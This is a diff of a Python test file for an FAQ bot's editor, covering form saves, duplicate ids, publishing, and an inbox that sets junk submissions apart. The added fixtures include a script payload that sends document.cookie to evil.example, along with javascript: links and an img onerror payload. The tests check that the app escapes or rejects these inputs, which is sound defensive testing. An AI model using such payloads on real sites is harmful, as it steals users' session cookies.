@@ -3,6 +3,7 @@ rollback, drafts, and the unanswered inbox's one-click fixes."""
 
 from __future__ import annotations
 
+import difflib
 import re
 import subprocess
 import time
@@ -21,6 +22,7 @@ from tests.conftest import HashingEmbedder
 from tests.unit.test_conversations import Conversation, save_conversations
 
 PASSWORD = "editor test password"
+SCRIPT_PAYLOAD = '<script>fetch("//evil.example/?c="+document.cookie)</script>'
 
 
 def _git(cwd: Path, *args: str) -> str:
@@ -47,6 +49,9 @@ def app(settings: Settings, monkeypatch):
             Conversation("c2", now + 60).answered("track my order", "order-tracking", 0.8),
             Conversation("c3", now + 120).answered("how do I return this", "returns-how", 0.8),
             Conversation("c4", now + 180).offered("do you sell gift cards", [("payments-methods", 0.1)]),
+            Conversation("c5", now + 240).offered(SCRIPT_PAYLOAD, [("order-tracking", 0.1)]),
+            Conversation("c6", now + 300).offered("https://evil.example/x", [("order-tracking", 0.1)]),
+            Conversation("c7", now + 360).offered("sdfghjklqwrt", [("order-tracking", 0.1)]),
         ],
     )
     return create_app(test_config={"TESTING": True}, services=Services(settings, fake))
@@ -83,17 +88,78 @@ def test_faq_list_with_hit_counts_and_search(app):
     assert "Live version" in page
 
 
-def test_preview_renders_safely_and_reports_problems_with_lines(app):
+def test_preview_gives_the_form_its_fields_and_reports_problems_with_lines(app):
     client, _ = _client(app)
     _csrf(client)
-    text = "## Q?\n```yaml\nid: Bad Id\n```\nAnswer <script>alert(1)</script> with a [link](https://x.example)\n"
+    text = "## Q?\n```yaml\nid: Bad Id\n```\nAnswer <script>alert(1)</script> with a [link](javascript:alert(1))\n"
     data = client.post("/editor/preview", json={"file": "en/faq.md", "text": text}).get_json()
     assert any(p["line"] == 3 and "Bad Id" in p["message"] for p in data["problems"])
     good = text.replace("Bad Id", "good-id")
     data = client.post("/editor/preview", json={"file": "en/faq.md", "text": good}).get_json()
-    html = data["entries"][0]["html"]
-    assert "<script>" not in html and "&lt;script&gt;" in html and '<a href="https://x.example">' in html
+    assert data["entries"] == [
+        {
+            "id": "good-id",
+            "line": 1,
+            "question": "Q?",
+            "answer": "Answer <script>alert(1)</script> with a [link](javascript:alert(1))",
+            "alternates": [],
+            "tags": [],
+            "related": [],
+            "channels": [],
+            "audience": [],
+        }
+    ]
+    # The answer-safety checks run while typing: raw HTML is a warning, a javascript: link an error.
+    found = {(p["line"], p["severity"], p["check"]) for p in data["problems"]}
+    assert found == {(5, "warning", "raw-html"), (5, "error", "unsafe-link")}
+    saved = client.post("/editor/save", json={"file": "en/faq.md", "text": good, "base": "x"})
+    assert saved.status_code == 422 and "unsafe" in str(saved.get_json()["problems"])
     assert client.post("/editor/preview", json={"file": "../secrets.md", "text": ""}).status_code == 400
+
+
+def test_the_form_writes_only_what_changed_and_an_untouched_form_saves_the_file_byte_identical(app):
+    settings = app.config["FAQBOT_SETTINGS"]
+    client, _ = _client(app)
+    _csrf(client)
+    path = settings.kb_dir / "en" / "faq.md"
+    original = path.read_bytes()
+    text = original.decode("utf-8")
+    entries = client.post("/editor/preview", json={"file": "en/faq.md", "text": text}).get_json()["entries"]
+    untouched = [
+        {"id": e["id"], "fields": {k: e[k] for k in ("question", "answer", "alternates", "tags")}} for e in entries
+    ]
+    composed = client.post("/editor/compose", json={"file": "en/faq.md", "text": text, "faqs": untouched}).get_json()
+    assert composed["text"] == text
+    head = _git(settings.kb_dir, "rev-parse", "HEAD")
+    saved = client.post(
+        "/editor/save", json={"file": "en/faq.md", "text": composed["text"], "base": content_hash(text)}
+    )
+    assert saved.status_code == 200 and saved.get_json()["commit"] is None
+    assert path.read_bytes() == original and _git(settings.kb_dir, "rev-parse", "HEAD") == head
+
+    untouched[0]["fields"]["alternates"] = [*untouched[0]["fields"]["alternates"], "where's my parcel"]
+    changes = [*untouched, {"id": "gift-cards", "new": True, "fields": {"question": "Gift cards?", "answer": "Yes."}}]
+    composed = client.post("/editor/compose", json={"file": "en/faq.md", "text": text, "faqs": changes}).get_json()
+    diff = list(difflib.ndiff(text.split("\n"), composed["text"].split("\n")))
+    assert not [line for line in diff if line.startswith("- ")]  # lines are only added
+    added = [line[2:] for line in diff if line.startswith("+ ")]
+    assert added[0] == "  - where's my parcel" and "## Gift cards?" in added
+    saved = client.post(
+        "/editor/save", json={"file": "en/faq.md", "text": composed["text"], "base": content_hash(text)}
+    )
+    assert saved.status_code == 200 and saved.get_json()["commit"]
+    kb = load_knowledge_base(settings.kb_dir, settings.languages)
+    assert "where's my parcel" in kb.get(entries[0]["id"], "en").alternates and kb.get("gift-cards", "en")
+
+    # An id another file of the language has already is refused, named.
+    copy = "## Where is it?\n```yaml\nid: order-tracking\n```\nSee above.\n"
+    clash = client.post("/editor/save", json={"file": "en/other.md", "text": copy, "base": content_hash("")})
+    assert clash.status_code == 422 and clash.get_json()["problems"][0]["check"] == "duplicate-id"
+    assert not (settings.kb_dir / "en" / "other.md").exists()
+
+    bad = [{"id": entries[0]["id"], "fields": {"answer": "ok\n## not a heading"}}]
+    refused = client.post("/editor/compose", json={"file": "en/faq.md", "text": text, "faqs": bad})
+    assert refused.status_code == 400 and "faithfully" in refused.get_json()["error"]
 
 
 def test_save_commits_in_the_editors_name_and_refuses_errors_and_stale_bases(app):
@@ -139,6 +205,19 @@ def test_inbox_adds_an_alternate_or_starts_a_draft_and_drafts_are_published(app)
     _csrf(client)
     page = client.get("/editor/inbox?since=7d").get_data(as_text=True)
     assert "do you sell gift cards" in page
+    # Junk is set apart with its reason, never offered as an alternate (and escaped on the page).
+    offered, junk = page.split('id="inbox-junk"')
+    assert "script" not in offered and "evil.example" not in offered and "sdfghjk" not in offered
+    assert "<script>" not in junk and "&lt;script&gt;fetch" in junk
+    assert "https://evil.example/x" in junk and "sdfghjklqwrt" in junk
+    assert {"markup", "gibberish"} <= set(re.findall(r'<span class="badge">([a-z ]+)</span>', junk))
+    before = (settings.kb_dir / "en" / "faq.md").read_text(encoding="utf-8")
+    for payload in (SCRIPT_PAYLOAD, "<img src=x onerror=alert(1)>", "https://evil.example/x", "x" * 300):
+        refused = client.post(
+            "/editor/inbox/alternate", json={"lang": "en", "faq_id": "order-tracking", "question": payload}
+        )
+        assert refused.status_code == 400 and "junk" in refused.get_json()["error"]
+    assert (settings.kb_dir / "en" / "faq.md").read_text(encoding="utf-8") == before
     added = client.post(
         "/editor/inbox/alternate", json={"lang": "en", "faq_id": "payments-methods", "question": "pay with gift card?"}
     )
@@ -149,6 +228,12 @@ def test_inbox_adds_an_alternate_or_starts_a_draft_and_drafts_are_published(app)
     assert draft.status_code == 201
     relative = draft.get_json()["file"]
     assert relative.startswith("drafts/en/") and relative in client.get("/editor/").get_data(as_text=True)
+    unsafe = client.post(
+        "/editor/inbox/draft", json={"lang": "en", "question": "Gift wrap?", "answer": "[Yes](javascript:alert(1))"}
+    ).get_json()["file"]
+    refused = client.post("/editor/publish", json={"file": unsafe})
+    assert refused.status_code == 422 and refused.get_json()["problems"][0]["check"] == "unsafe-link"
+    assert (settings.kb_dir / unsafe).exists() and not (settings.kb_dir / "en" / Path(unsafe).name).exists()
     published = client.post("/editor/publish", json={"file": relative})
     assert published.status_code == 201
     kb = load_knowledge_base(settings.kb_dir, settings.languages)
